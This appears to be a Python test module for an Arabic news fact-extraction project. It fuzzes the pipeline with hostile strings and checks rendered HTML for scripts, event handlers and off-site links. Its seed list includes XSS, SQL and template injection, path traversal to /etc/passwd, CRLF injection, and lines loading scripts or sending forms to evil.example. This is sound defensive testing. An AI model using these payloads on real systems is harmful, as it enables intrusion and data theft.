"""Hostile texts, and a look at HTML as a browser parses it."""

from __future__ import annotations

import random
from collections.abc import Iterator
from urllib.parse import urlsplit

import html5lib
from mithaq.extraction.facts import Evidence, Facts, Official, Organization, Ref, State, Visit
from mithaq.reading import Article, Span

MARK = "xss7f3a"
"""What every hostile text has, so that its traces are found."""

SEEDS = [
    f"<script>alert('{MARK}')</script>",
    f'"><script src=//evil.example/{MARK}.js></script>',
    f"'><img src=x onerror=alert('{MARK}')>",
    f"<svg/onload=alert('{MARK}')>",
    f"</title><script>{MARK}</script>",
    f"</textarea><script>{MARK}</script>",
    f"</q></li></ul><iframe srcdoc='<script>{MARK}</script>'>",
    f"--><script>{MARK}</script><!--",
    f"]]><script>{MARK}</script>",
    f"javascript:alert('{MARK}')",
    f"data:text/html,<script>{MARK}</script>",
    f"{{{{ 7*7 }}}}{MARK}{{% include '/etc/passwd' %}}",
    f"${{7*7}}{MARK}#{{7*7}}",
    f"../../../../etc/passwd {MARK}",
    f"..%2f..%2f..%2fetc%2fpasswd{MARK}",
    f"..\\..\\windows\\{MARK}",
    f"/etc/passwd\x00{MARK}.txt",
    f"'; DROP TABLE doc; -- {MARK}",
    f'" OR 1=1 -- {MARK}',
    f'{MARK}" NEAR( * ) ^ : AND OR NOT "',
    f"> }} ; INSERT DATA {{ <http://e/{MARK}> a <http://e/x> }} #",
    f"<http://evil.example/{MARK}> <b> 'c' .",
    f"\r\nSet-Cookie: {MARK}=1\r\n\r\n<script>{MARK}</script>",
    f'=HYPERLINK("http://evil.example/{MARK}")',
    f"\u202e{MARK}\u2066\u200f<b>\u2069",
    f"{MARK}\u0000\u0001\u0008\u000b\u001f\u007f\u0085\ufeff\ufffe",
    f"&lt;script&gt;{MARK}&#60;script&#62;",
    f"<a href=javascript:{MARK}>x</a><base href=//evil.example>",
    f"<style>*{{background:url(//evil.example/{MARK})}}</style>",
    f"<form action=//evil.example/{MARK}><input name=csrf autofocus onfocus=alert(1)>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={MARK}&gt;'>",
    f"%3Cscript%3E{MARK}%3C/script%3E",
    f"%00%0d%0a{MARK}%ff%fe",
    f"\uff1cscript\uff1e{MARK}\uff1c/script\uff1e",
]
_PIECES = [
    "<",
    ">",
    '"',
    "'",
    "&",
    "`",
    "/",
    "\\",
    "%",
    "\x00",
    "\n",
    "\t",
    "{{",
    "}}",
    "\u202e",
    "\U0001f9e8",
    "وزير ",
]


def texts(count: int = 200) -> list[str]:
    """The seeds and variations on them; the same every time."""
    chance = random.Random(20230410)
    found = list(SEEDS)
    while len(found) < count:
        letters = list(chance.choice(SEEDS))
        for _ in range(chance.randint(1, 6)):
            letters.insert(chance.randrange(len(letters) + 1), chance.choice(_PIECES))
        text = "".join(letters)
        if chance.random() < 0.2:
            text = text.upper().replace(MARK.upper(), MARK)
        if chance.random() < 0.1:
            text *= chance.randint(2, 40)
        found.append(text)
    return found


_LISTED = (
    "html head meta title link script body a header form input button nav main p h1 h2 ul ol li div span b bdi em q "
    "time mark article aside section details summary code meter select option textarea label table thead tbody tr th "
    "td dl dt dd pre svg g rect line circle text path small strong figure figcaption"
)
_ELEMENTS = frozenset(_LISTED.split())
_LINKS = ("href", "src", "action", "formaction")


def faults(html: str) -> Iterator[str]:
    """What a browser would run, load or send elsewhere, and elements that no template has."""
    for element in html5lib.parse(html, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag not in _ELEMENTS:
            yield f"an element <{element.tag}>"
        if element.tag == "script" and (element.text or not str(element.get("src", "")).startswith("/static/")):
            yield f"a script: {element.text or element.get('src')}"
        for name, value in element.attrib.items():
            if str(name).lower().startswith("on") or name in ("style", "srcdoc"):
                yield f"an attribute {name}={value}"
            if name in _LINKS and not _harmless(str(element.tag), str(value)):
                yield f"a link {name}={value}"


def _harmless(tag: str, address: str) -> bool:
    """Links may lead to other sites by http; whatever is loaded or sent stays here."""
    if any(ord(letter) < 0x20 for letter in address):
        return False
    parts = urlsplit(address)
    if tag == "a":
        return parts.scheme in ("", "http", "https")
    if tag == "link" and address == "data:,":
        return True  # no icon
    return not parts.scheme and not parts.netloc and not address.startswith("\\")


def read(article: Article) -> Facts:
    """An extractor that takes the title for a name, whatever it is."""
    evidence = Evidence((Span(0, min(len(article.content), 400)),), "rule<script>", 0.5)
    name = " ".join(article.content.partition("\n")[0].split())[:150] or "اسم"
    return Facts(
        article.id,
        states=(State("QA", ("قطر",), evidence),),
        officials=(Official(name, (name,), evidence),),
        organizations=(Organization(name[::-1], (name[::-1],), evidence),),
        visits=(Visit(Ref("official", "0"), "QA", evidence),),
    )


_BODY = "زار وزير الخارجية دولة قطر اليوم وبحث مع المسؤولين فيها العلاقات بين البلدين وسبل التعاون المشترك. " * 12


def record(number: int, text: str) -> dict[str, str]:
    """An article every field of which is hostile."""
    body = f"{_BODY}\n{text}\n{_BODY}"
    return {
        "id": f"{text[:60]}-{number}",
        "title": text[:300],
        "text": body,
        "source": text,
        "url": text,
        "date": "2020-01-02",
    }
